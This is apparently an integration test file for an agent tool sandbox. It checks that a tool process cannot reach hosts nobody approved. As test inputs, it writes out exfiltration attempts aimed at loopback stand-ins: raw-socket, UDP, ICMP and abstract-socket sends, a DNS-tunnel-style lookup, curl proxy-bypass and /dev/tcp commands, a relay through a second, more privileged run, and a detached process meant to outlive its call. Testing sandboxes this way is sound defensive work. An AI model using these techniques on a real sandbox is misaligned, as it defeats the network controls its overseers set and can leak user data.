/**
 * T-22: a tool in the box gets a byte to a host that was not allowed: by a socket of its own, by what is not TCP, through a
 * neighbour, by an address instead of a name, by another port. Loopback servers of the host stand for the hosts, so that
 * whatever gets out shows. T-19, T-51: the same by abstract sockets and by names that nobody allowed.
 */
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { type NetworkHouse, openNetworkHouse, type StandIn, standIn } from '../integration/network-house.ts';

let allowed: StandIn;
let other: StandIn;
let house: NetworkHouse;
let datagrams: Socket;
let received = 0;
let abstract: Server;
let heard = 0;

const ABSTRACT = `palyra-t22-${process.pid}`;

beforeAll(async () => {
  allowed = await standIn();
  other = await standIn();
  datagrams = createSocket('udp4').on('message', () => {
    received += 1;
  });
  datagrams.bind(0, '127.0.0.1');
  await once(datagrams, 'listening');
  abstract = createServer(() => {
    heard += 1;
  }).listen(`\0${ABSTRACT}`);
  await once(abstract, 'listening');
  // Both addresses are open, so that nothing but the rules of the call stands between.
  house = await openNetworkHouse({
    names: ['allowed.example', 'other.example'],
    ports: [allowed.port, other.port],
    settings: 'unlisted = "deny"',
  });
});
afterAll(async () => {
  await house.close();
  datagrams.close();
  abstract.close();
  await allowed[Symbol.asyncDispose]();
  await other[Symbol.asyncDispose]();
});
beforeEach(() => {
  received = 0;
  heard = 0;
});

const NETWORK = () => ({ network: [`allowed.example:${allowed.port}`] });

/** With the allowed host, which a human said yes to for the session. */
async function attempt(argv: readonly string[], more: object = NETWORK()) {
  const calling = house.command(argv, more);
  const card = await Promise.race([house.asked().catch(() => undefined), calling.then(() => undefined)]);
  if (card !== undefined) await house.answer({ scope: 'session' });
  return calling;
}

const python = (source: string, ...args: readonly (string | number)[]) => [
  'python3',
  '-c',
  source,
  ...args.map(String),
];

const SOCKETS = `
import socket, sys, struct
port, udp, name = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
def tried(what, act):
  try:
    act()
    print(what, 'reached')
  except OSError as error: print(what, 'no')
for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET, '127.0.0.2'), (socket.AF_INET6, '::1')):
  tried('tcp ' + address, lambda: socket.create_connection((address, port), 5).sendall(b'stolen'))
def datagram():
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
  for each in range(3): s.sendto(b'stolen', ('127.0.0.1', udp))
try: datagram()
except OSError: pass
def echoes(kind):
  s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
  for each in range(1000): s.sendto(struct.pack('!BBHHH', 8, 0, 0xf7ff, 0, 0), ('127.0.0.1', 0))
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW): tried('icmp', lambda: echoes(kind))
tried('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0x0300))
def abstract():
  s = socket.socket(socket.AF_UNIX)
  s.connect('\\0' + name)
  s.sendall(b'stolen')
tried('abstract', abstract)
tried('dns', lambda: socket.getaddrinfo('c3RvbGVu.tunnel.example', 443))
print('end')
`;

test('sockets of its own: TCP, UDP, ICMP, packets, abstract sockets and names lead nowhere', async () => {
  const { port } = datagrams.address();
  const before = echoesReceived();
  const result = await attempt(python(SOCKETS, other.port, port, ABSTRACT));
  expect(result.outcome.stdout).toContain('end');
  // A ping of itself is nobody's business; that of the host would be among those that it has received, with a few of others.
  const reached = result.outcome.stdout?.match(/^(?!icmp).* reached$/gm) ?? [];
  const isPinged = echoesReceived() - before >= 500;
  const found = { reached, tcp: other.connections(), received, heard, isPinged };
  expect(found).toEqual({ reached: [], tcp: 0, received: 0, heard: 0, isPinged: false });
  // Nothing of it came to the proxy, and the call is on record.
  expect(await house.connections(result)).toEqual([]);
});

/** By this machine's kernel since it began, from anywhere. */
function echoesReceived(): number {
  const [names = '', counts = ''] = readFileSync('/proc/net/snmp', 'utf8').match(/^Icmp: .*$/gm) ?? [];
  return Number(counts.split(' ')[names.split(' ').indexOf('InEchos')]);
}

const NODE = `
const net = require('node:net'), dgram = require('node:dgram');
const [port, udp, url] = process.argv.slice(1);
net.connect(Number(port), '127.0.0.1').on('connect', function () { this.end('stolen'); console.log('reached'); }).on('error', () => {});
const socket = dgram.createSocket('udp4'); socket.send('stolen', Number(udp), '127.0.0.1', () => socket.close());
fetch(url, { method: 'POST', body: 'stolen' }).then(async (answer) => console.log(answer.status), (error) => console.log('failed', error.cause?.code));
`;

test('node, curl and bash: through the proxy a host that was not named is denied, around it is nothing', async () => {
  const url = `http://other.example:${other.port}/`;
  const node = await attempt(['node', '-e', NODE, String(other.port), String(datagrams.address().port), url]);
  expect(node.outcome.stdout).not.toContain('reached');
  const script = `
    curl -sS -o /dev/null -w '%{http_code} ' -d stolen ${url}
    curl -sS -o /dev/null -w '%{http_code} ' -p -d stolen ${url}
    curl -sS -o /dev/null -w '%{http_code} ' --noproxy '*' --resolve other.example:${other.port}:127.0.0.1 -d stolen ${url}
    (echo stolen > /dev/tcp/127.0.0.1/${other.port}) 2>/dev/null && echo reached
    curl -sS --socks5-hostname 127.0.0.1:3128 -d stolen ${url}
    curl -sS --noproxy '' --socks5 127.0.0.1:3128 --resolve other.example:${other.port}:127.0.0.1 -d stolen ${url}
    echo end`;
  const result = await attempt(['bash', '-c', script]);
  expect(result.outcome.stdout).toContain('end');
  expect(result.outcome.stdout).not.toContain('reached');
  expect(other.connections()).toBe(0);
  const lines = await house.connections(result);
  expect(lines.length).toBeGreaterThanOrEqual(4);
  expect(lines.every(({ outcome }) => outcome === 'denied')).toBe(true);
  // By an address: that it was allowed as a name does not make it so.
  expect(lines).toContainEqual(expect.objectContaining({ host: '127.0.0.1', port: other.port }));
});

test('another port of the allowed host is not that host', async () => {
  const at = `http://allowed.example:${other.port}/`;
  const result = await attempt(['curl', '-sS', '-p', at, '-w', '%{http_connect}']);
  expect(result.outcome.stdout).toContain('403');
  expect(other.connections()).toBe(0);
  expect(await house.connections(result)).toMatchObject([
    { host: 'allowed.example', port: other.port, outcome: 'denied', code: 'egress.port_not_allowed' },
  ]);
});

const RELAY = `
import socket, threading
server = socket.create_server(('127.0.0.1', 8099))
print('ready', flush=True)
def pipe(a, b):
  while (piece := a.recv(65536)): b.sendall(piece)
while True:
  client, _ = server.accept()
  out = socket.create_connection(('127.0.0.1', 3128))
  for pair in ((client, out), (out, client)): threading.Thread(target=pipe, args=pair, daemon=True).start()
`;

test('a relay in another call with more rights: neither its listener nor its proxy is there', async () => {
  const second = await house.daemon.gateway.startRun(house.agent, { workspace: house.workspace });
  const ready = Promise.withResolvers<void>();
  const stop = new AbortController();
  const relay = house.run.call({
    tool: 'palyra.process.run',
    input: JSON.stringify({ argv: python(RELAY), ...NETWORK() }),
    signal: stop.signal,
    onOutput: () => ready.resolve(),
  });
  const card = await Promise.race([house.asked(), ready.promise]);
  if (card !== undefined) await house.answer({ scope: 'session' });
  await ready.promise;
  const before = allowed.connections();
  const script = `for port in 8099 3128; do curl -sS -o /dev/null -w '%{http_code} ' --noproxy '' -x http://127.0.0.1:$port http://allowed.example:${allowed.port}/; done; echo end`;
  const thief = await second.call({
    tool: 'palyra.process.run',
    input: JSON.stringify({ argv: ['bash', '-c', script], network: ['elsewhere.example'], unlisted: 'deny' }),
    onEvent: (event) => {
      if (event.kind === 'approval_requested') void house.answer({ scope: 'once' });
    },
  });
  expect(thief.outcome.stdout).toBe('000 403 end\n');
  expect(allowed.connections()).toBe(before);
  expect(await house.connections(thief)).toMatchObject([{ host: 'allowed.example', outcome: 'denied' }]);
  stop.abort();
  expect(await relay).toMatchObject({ outcome: { kind: 'cancelled' } });
  await second.end();
});

test('what is left of a call when it is over has no way out any more', async () => {
  const script = `setsid bash -c 'sleep 1; curl -sS http://allowed.example:${allowed.port}/late' >/dev/null 2>&1 & echo gone`;
  const result = await attempt(['bash', '-c', script]);
  expect(result.outcome.kind).toBe('completed');
  // The next call takes longer than the one that was left behind would have waited.
  await attempt(['sleep', '2']);
  expect(allowed.seen.filter((line) => line.includes('/late'))).toEqual([]);
});

test('and every one of them is in a journal that verifies', async () => {
  expect(await house.verdict()).toBe('sound');
});
